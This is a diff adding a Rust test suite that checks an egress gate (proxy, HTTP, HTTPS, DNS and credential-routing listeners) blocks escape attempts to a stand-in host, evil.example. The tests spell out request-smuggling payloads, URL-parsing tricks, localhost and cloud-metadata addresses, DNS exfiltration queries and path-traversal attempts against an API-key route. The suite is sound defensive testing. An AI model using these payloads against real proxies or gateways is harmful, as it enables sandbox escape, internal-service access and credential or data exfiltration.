@@ -1,0 +1,361 @@
+//! Ways out that must lead nowhere. Every name that is not allowed, on every port, belongs to a host
+//! that the gate could reach: only its decisions keep the two apart.
+
+use std::sync::Arc;
+use std::time::Duration;
+
+use ralph_core::net::Entry;
+use ralph_gate::{Gate, Listener, Route};
+use rustls::pki_types::ServerName;
+use rustls::{ClientConfig, ClientConnection, RootCertStore};
+use tokio::task::JoinSet;
+
+use crate::credentials::{phantom, secret};
+use crate::support::{Heard, OK, World, ask, host, status};
+
+/// A gate, the hosts behind it, and what they heard.
+struct Prison {
+    gate: Gate,
+    allowed: Heard,
+    evil: Heard,
+    evil_port: u16,
+    inside: Heard,
+    provider: Heard,
+}
+
+async fn prison() -> Prison {
+    let mut world = World::allowing(&["allowed.example", "rebind.example"]);
+    let allowed = world.host("allowed.example:80", OK).await;
+    let (address, _) = host(OK.into(), Some(world.acceptor("allowed.example"))).await;
+    world.name("allowed.example:443", address);
+    let provider = world
+        .tls_host("api.anthropic.com:443", "api.anthropic.com", OK)
+        .await;
+    world.routes = vec![Route::anthropic_key(secret()).unwrap()];
+    let (inside, inside_heard) = host(OK.into(), None).await;
+    world.name_only("rebind.example:80", &[inside]);
+    world.name_only("rebind.example:443", &[inside]);
+    let (address, evil) = host(OK.into(), None).await;
+    world.name_all_others(address);
+    // What waits for more of a request ends soon.
+    world.limits.head_time = Duration::from_secs(1);
+    world.limits.idle = Duration::from_secs(2);
+    let (gate, _) = world.gate();
+    Prison {
+        gate,
+        allowed,
+        evil,
+        evil_port: address.port(),
+        inside: inside_heard,
+        provider,
+    }
+}
+
+/// Returns the first message of a TLS connection.
+fn hello(name: &str) -> Vec<u8> {
+    let provider = Arc::new(rustls::crypto::ring::default_provider());
+    let config = ClientConfig::builder_with_provider(provider)
+        .with_safe_default_protocol_versions()
+        .unwrap()
+        .with_root_certificates(RootCertStore::empty())
+        .with_no_client_auth();
+    let name = ServerName::try_from(name.to_owned()).unwrap();
+    let mut client = ClientConnection::new(Arc::new(config), name).unwrap();
+    let mut bytes = Vec::new();
+    client.write_tls(&mut bytes).unwrap();
+    bytes
+}
+
+fn get(target: &str, host: &str) -> Vec<u8> {
+    format!("GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n").into_bytes()
+}
+
+fn connect(authority: &str, then: &[u8]) -> Vec<u8> {
+    let mut bytes =
+        format!("CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n").into_bytes();
+    bytes.extend_from_slice(then);
+    bytes
+}
+
+/// Sends all to the gate, and then looks at who heard something.
+async fn all_stay_inside(attempts: Vec<(Listener, Vec<u8>)>, prison: Prison) {
+    let mut tries = JoinSet::new();
+    for (listener, bytes) in attempts {
+        let gate = prison.gate.clone();
+        tries.spawn(async move { ask(&gate, listener, bytes).await });
+    }
+    tries.join_all().await;
+    let none = String::new();
+    assert_eq!(
+        (prison.evil.connections(), prison.evil.text()),
+        (0, none.clone())
+    );
+    assert_eq!(
+        (prison.inside.connections(), prison.inside.text()),
+        (0, none.clone())
+    );
+    assert_eq!(
+        (prison.provider.connections(), prison.provider.text()),
+        (0, none)
+    );
+    let heard = prison.allowed.text();
+    assert!(!heard.contains("evil"), "{heard}");
+    // The gate still works, and it is the list alone that keeps evil out.
+    let answer = ask(
+        &prison.gate,
+        Listener::Proxy,
+        get("http://allowed.example/", "allowed.example"),
+    );
+    assert_eq!(status(&answer.await), 200);
+    prison.gate.allow(Entry::parse("evil.example").unwrap());
+    let answer = ask(
+        &prison.gate,
+        Listener::Proxy,
+        get("http://evil.example/", "evil.example"),
+    );
+    assert_eq!((status(&answer.await), prison.evil.connections()), (200, 1));
+}
+
+/// Addresses that are asked of the proxy, and what `Host` says.
+const ADDRESSES: [(&str, &str); 24] = [
+    ("http://evil.example/", "evil.example"),
+    ("http://EVIL.example./", "EVIL.example."),
+    (
+        "http://allowed.example.evil.example/",
+        "allowed.example.evil.example",
+    ),
+    ("http://evilallowed.example/", "evilallowed.example"),
+    ("http://sub.allowed.example/", "sub.allowed.example"),
+    ("http://allowed.example@evil.example/", "allowed.example"),
+    ("http://allowed.example:80@evil.example/", "allowed.example"),
+    ("http://evil.example#@allowed.example/", "allowed.example"),
+    ("http://evil.example?@allowed.example/", "allowed.example"),
+    ("http://evil.example\\@allowed.example/", "allowed.example"),
+    ("http://evil.example/", "allowed.example"),
+    ("http://allowed.example/", "evil.example"),
+    ("http://allowed.example:8080/", "allowed.example:8080"),
+    ("https://evil.example/", "evil.example"),
+    ("ftp://evil.example/", "evil.example"),
+    ("//evil.example/", "evil.example"),
+    ("/", "evil.example"),
+    ("http://evil\u{3002}example/", "evil.example"),
+    ("http://\u{430}llowed.example/", "allowed.example"),
+    ("http://evil.example%00.allowed.example/", "allowed.example"),
+    ("http://evil.example\0.allowed.example/", "allowed.example"),
+    ("http://rebind.example/", "rebind.example"),
+    (
+        "http://169.254.169.254/latest/meta-data/",
+        "169.254.169.254",
+    ),
+    ("http://api.anthropic.com/v1/messages", "api.anthropic.com"),
+];
+
+/// What else is sent to the proxy: odd headers, old and other protocols, requests inside of requests.
+const BYTES: [&str; 14] = [
+    "GET http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\nHost: evil.example\r\n\r\n",
+    "GET http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\nX: y\r\n Host: evil.example\r\n\r\n",
+    "GET http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\nHost : evil.example\r\n\r\n",
+    "GET http://evil.example/\r\n\r\n",
+    "GET http://evil.example/ HTTP/1.0\r\n\r\n",
+    "OPTIONS * HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n",
+    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
+    "\x05\x01\x00\x05\x01\x00\x03\x0cevil.example\x00\x50",
+    "\x04\x01\x00\x50\x00\x00\x00\x01x\x00evil.example\x00",
+    "EHLO evil.example\r\n",
+    "POST http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\nContent-Length: 4\r\n\
+     Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\
+     Connection: close\r\n\r\n",
+    "POST http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\nContent-Length: 0\r\n\
+     Content-Length: 60\r\n\r\nGET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\
+     Connection: close\r\n\r\n",
+    "GET http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\n\r\n\
+     GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n",
+    "GET ws://evil.example/ HTTP/1.1\r\nHost: evil.example\r\nConnection: Upgrade\r\n\
+     Upgrade: websocket\r\n\r\n",
+];
+
+#[tokio::test]
+async fn no_request_to_the_proxy_gets_out() {
+    let prison = prison().await;
+    let here = format!("http://127.0.0.1:{}/", prison.evil_port);
+    let mut attempts = vec![get(&here, "allowed.example"), hello("evil.example")];
+    attempts.extend(ADDRESSES.map(|(target, host)| get(target, host)));
+    attempts.extend(BYTES.map(|text| text.as_bytes().to_vec()));
+    assert_eq!(attempts.len(), 40);
+    let attempts = attempts.into_iter().map(|bytes| (Listener::Proxy, bytes));
+    all_stay_inside(attempts.collect(), prison).await;
+}
+
+#[tokio::test]
+async fn no_tunnel_gets_out() {
+    let prison = prison().await;
+    let evil_port = prison.evil_port;
+    let to = |authority: &str, then: &[u8]| (Listener::Proxy, connect(authority, then));
+    let plain = get("/", "evil.example");
+    let mut attempts: Vec<_> = [
+        "evil.example:443",
+        "evil.example:80",
+        "allowed.example:22",
+        "allowed.example.:8443",
+        "allowed.example.evil.example:443",
+        "sub.allowed.example:443",
+        "evil.example:443@allowed.example:443",
+        "allowed.example:443@evil.example:443",
+        "evil.example\0.allowed.example:443",
+        "evil.example",
+        "evil.example:",
+        "evil.example:443/allowed.example",
+        "rebind.example:443",
+        "api.anthropic.com:443",
+        "169.254.169.254:80",
+        "[fe80::1]:443",
+    ]
+    .iter()
+    .map(|authority| to(authority, &plain))
+    .collect();
+    for here in [
+        "127.0.0.1",
+        "127.1",
+        "0x7f.1",
+        "0177.0.0.1",
+        "2130706433",
+        "0",
+        "localhost",
+        "[::1]",
+        "[::ffff:127.0.0.1]",
+        "[64:ff9b::7f00:1]",
+    ] {
+        attempts.push(to(&format!("{here}:{evil_port}"), &plain));
+    }
+    // Tunnels to the right host that hold something else.
+    for then in [
+        hello("evil.example"),
+        hello("127.0.0.1"),
+        plain.clone(),
+        b"SSH-2.0-evil\r\n".to_vec(),
+    ] {
+        attempts.push(to("allowed.example:443", &then));
+    }
+    for then in [
+        get("/", "evil.example"),
+        get("http://evil.example/", "allowed.example"),
+        connect("evil.example:443", b""),
+        hello("evil.example"),
+    ] {
+        attempts.push(to("allowed.example:80", &then));
+    }
+    assert_eq!(attempts.len(), 34);
+    all_stay_inside(attempts, prison).await;
+}
+
+#[tokio::test]
+async fn nothing_gets_out_where_names_live() {
+    let prison = prison().await;
+    let http = |bytes: Vec<u8>| (Listener::Http, bytes);
+    let https = |bytes: Vec<u8>| (Listener::Https, bytes);
+    let dns = |name: &str, kind: u8| {
+        let mut message = vec![0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
+        for label in name.split('.') {
+            message.push(u8::try_from(label.len()).unwrap());
+            message.extend(label.as_bytes());
+        }
+        message.extend([0, 0, kind, 0, 1]);
+        let mut framed = vec![0, u8::try_from(message.len()).unwrap()];
+        framed.extend(message);
+        // A second length without a message ends the connection.
+        framed.extend([0, 0]);
+        (Listener::Dns, framed)
+    };
+    let attempts = vec![
+        http(get("/", "evil.example")),
+        http(get("http://evil.example/", "allowed.example")),
+        http(get("http://allowed.example/", "evil.example")),
+        http(get("/", &format!("allowed.example:{}", prison.evil_port))),
+        http(get("/", "evil.example@allowed.example")),
+        http(get("/", "allowed.example, evil.example")),
+        http(connect("evil.example:443", b"")),
+        http(b"GET / HTTP/1.0\r\n\r\n".to_vec()),
+        http(hello("evil.example")),
+        https(hello("evil.example")),
+        https(hello("127.0.0.1")),
+        https(get("/", "evil.example")),
+        https(b"\x16\x03\x01\x00\x05evil!".to_vec()),
+        dns("secret.evil.example", 1),
+        dns("secret.evil.example", 16),
+        dns("secret.evil.example", 255),
+    ];
+    assert_eq!(attempts.len(), 16);
+    all_stay_inside(attempts, prison).await;
+}
+
+/// Paths that the credential is not for.
+const PATHS: [&str; 18] = [
+    "http://evil.example/anthropic/v1/messages",
+    "http://api.anthropic.com/anthropic/v1/messages",
+    "//evil.example/anthropic/v1/messages",
+    "/v1/messages",
+    "/anthropic/v1/messages/",
+    "/anthropic/v1/messages/batches",
+    "/anthropic/v1/messages/../../v1/organizations",
+    "/anthropic/v1/messages/..%2f..%2fv1/organizations",
+    "/anthropic/%2e%2e/v1/messages",
+    "/anthropic/v1%2fmessages",
+    "/anthropic/v1//messages",
+    "/anthropic/v1/messages;x",
+    "/anthropic/v1/messages%00",
+    "/anthropic/v1/files",
+    "/anthropic/v1/organizations/api_keys",
+    "/anthropic@evil.example/v1/messages",
+    "/anthropicx/v1/messages",
+    "/github/owner/repo.git/git-receive-pack",
+];
+
+#[tokio::test]
+async fn no_credential_is_used_for_anything_else() {
+    let prison = prison().await;
+    let right = phantom(&prison.gate);
+    let other = Route::anthropic_key(secret())
+        .unwrap()
+        .phantom()
+        .as_str()
+        .to_owned();
+    let body = r#"{"model":"m"}"#;
+    let request = |method: &str, target: &str, auth: &str| {
+        let bytes = format!(
+            "{method} {target} HTTP/1.1\r\nHost: evil.example\r\n{auth}\r\nConnection: close\r\n\
+             Content-Length: {}\r\n\r\n{body}",
+            body.len()
+        );
+        (Listener::Credentials, bytes.into_bytes())
+    };
+    let key = format!("x-api-key: {right}");
+    let mut attempts: Vec<_> = PATHS
+        .iter()
+        .map(|target| request("POST", target, &key))
+        .collect();
+    for method in ["GET", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE"] {
+        attempts.push(request(method, "/anthropic/v1/messages", &key));
+    }
+    for auth in [
+        "x-no: auth".to_owned(),
+        format!("x-api-key: {other}"),
+        "x-api-key: phantom".to_owned(),
+        format!("x-api-key: {}", &right[..right.len() - 1]),
+        format!("x-api-key: {right}x"),
+        format!("{key}\r\nx-api-key: sk-ant-mine"),
+        format!("{key}\r\nAuthorization: Bearer sk-ant-mine"),
+        format!("Cookie: x-api-key={right}"),
+        format!("x-goog-api-key: {right}"),
+        format!("{key}\r\nContent-Encoding: gzip"),
+    ] {
+        attempts.push(request("POST", "/anthropic/v1/messages", &auth));
+    }
+    attempts.push(request(
+        "POST",
+        &format!("/anthropic/v1/messages?key={right}"),
+        "x-no: auth",
+    ));
+    attempts.push(request("CONNECT", "api.anthropic.com:443", &key));
+    assert_eq!(attempts.len(), 36);
+    all_stay_inside(attempts, prison).await;
+}
